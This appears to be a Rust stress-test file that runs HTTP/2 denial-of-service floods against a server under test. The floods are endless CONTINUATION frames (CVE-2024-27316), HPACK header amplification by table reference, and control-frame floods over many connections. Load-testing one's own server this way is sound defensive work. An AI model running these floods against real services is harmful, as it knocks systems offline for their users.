//! Floods of frames that are cheap to send: endless CONTINUATION (CVE-2024-27316), large headers by reference to the
//! decoder's table, and control frames.

use std::sync::Arc;

use tokio::io::AsyncWriteExt;

use crate::besieged::Siege;
use crate::field::{Field, read_to_end, swarm};
use crate::frames::{
    self, CONTINUATION, DATA, END_STREAM, HEADERS, PING, PRIORITY, SETTINGS, WINDOW_UPDATE,
};

const CONNECTIONS: usize = 16;

/// Sends `first` and then `again`, until the server closes. With `reads`, its answers are read.
async fn flood(field: &Field, number: usize, first: &[u8], again: &[u8], reads: bool) {
    let Some(mut stream) = field.connect(number).await else {
        return;
    };
    if frames::begin(&mut stream, 65_535).await.is_none() || stream.write_all(first).await.is_err()
    {
        return;
    }
    let (mut from, mut to) = stream.split();
    let sending = async {
        while to.write_all(again).await.is_ok() {
            field.did();
        }
    };
    if reads {
        tokio::select! {
            () = sending => {}
            () = read_to_end(&mut from) => {}
        }
    } else {
        sending.await;
    }
}

async fn continuations(field: Arc<Field>, number: usize) {
    let block = frames::block("GET", "/healthz", "Bearer none");
    let mut first = Vec::new();
    frames::frame(&mut first, HEADERS, END_STREAM, 1, &block);
    let mut more = Vec::new();
    // Empty, small and full ones.
    let mut field_block = Vec::new();
    frames::field(
        &mut field_block,
        "x-filler",
        &"x".repeat([0, 1, 16_000][number % 3]),
    );
    let payload: &[u8] = if number.is_multiple_of(4) {
        &[]
    } else {
        &field_block
    };
    for _ in 0..64 {
        frames::frame(&mut more, CONTINUATION, 0, 1, payload);
    }
    flood(&field, number, &first, &more, true).await;
}

/// One field of 4 KB in the decoder's table, and requests that name it thousands of times.
async fn references(field: Arc<Field>, number: usize) {
    /// A reference to the newest entry of the table, 62 (RFC 7541, 2.3.3 and 6.1).
    const NEWEST: u8 = 0xbe;
    let Some(mut stream) = field.connect(number).await else {
        return;
    };
    if frames::begin(&mut stream, 65_535).await.is_none() {
        return;
    }
    let (mut reads, mut writes) = stream.split();
    let sending = async {
        let mut next = 1;
        loop {
            let mut block = frames::block("GET", "/healthz", "Bearer none");
            frames::indexed(&mut block, "x-filler", &"x".repeat(4_000));
            block.resize(16_000, NEWEST);
            let mut bytes = Vec::new();
            frames::request(&mut bytes, next, END_STREAM, &block);
            if writes.write_all(&bytes).await.is_err() {
                return;
            }
            field.did();
            next += 2;
        }
    };
    tokio::select! {
        () = sending => {}
        () = read_to_end(&mut reads) => {}
    }
}

/// Frames of one kind, on connections that read the answers and on others that do not.
async fn control(field: Arc<Field>, number: usize) {
    let block = frames::block("GET", "/batches?min_sequence=1000000000", &field.bearer());
    let mut first = Vec::new();
    frames::request(&mut first, 1, 0, &block);
    let (kind, stream, payload): (u8, u32, &[u8]) = match number % 5 {
        0 => (PING, 0, &[7; 8]),
        1 => (SETTINGS, 0, &[0, 4, 0, 0, 0xff, 0xff]),
        2 => (DATA, 1, &[]),
        3 => (PRIORITY, 1, &[0, 0, 0, 3, 16]),
        _ => (WINDOW_UPDATE, 1, &[0, 0, 0, 1]),
    };
    let mut again = Vec::new();
    for _ in 0..256 {
        frames::frame(&mut again, kind, 0, stream, payload);
    }
    flood(&field, number, &first, &again, number.is_multiple_of(2)).await;
}

#[test]
#[ignore = "a siege: make siege"]
fn continuations_without_end() {
    Siege::new("HTTP/2: CONTINUATION without end on 16 connections", 96)
        .run(async |field| swarm(&field, CONNECTIONS, continuations).await);
}

#[test]
#[ignore = "a siege: make siege"]
fn headers_by_reference() {
    Siege::new(
        "HTTP/2: headers of 60 MB by reference on 16 connections",
        96,
    )
    .run(async |field| swarm(&field, CONNECTIONS, references).await);
}

#[test]
#[ignore = "a siege: make siege"]
fn frames_of_control() {
    Siege::new(
        "HTTP/2: PING, SETTINGS, empty DATA, PRIORITY, WINDOW_UPDATE, 20 connections",
        128,
    )
    .run(async |field| swarm(&field, 20, control).await);
}
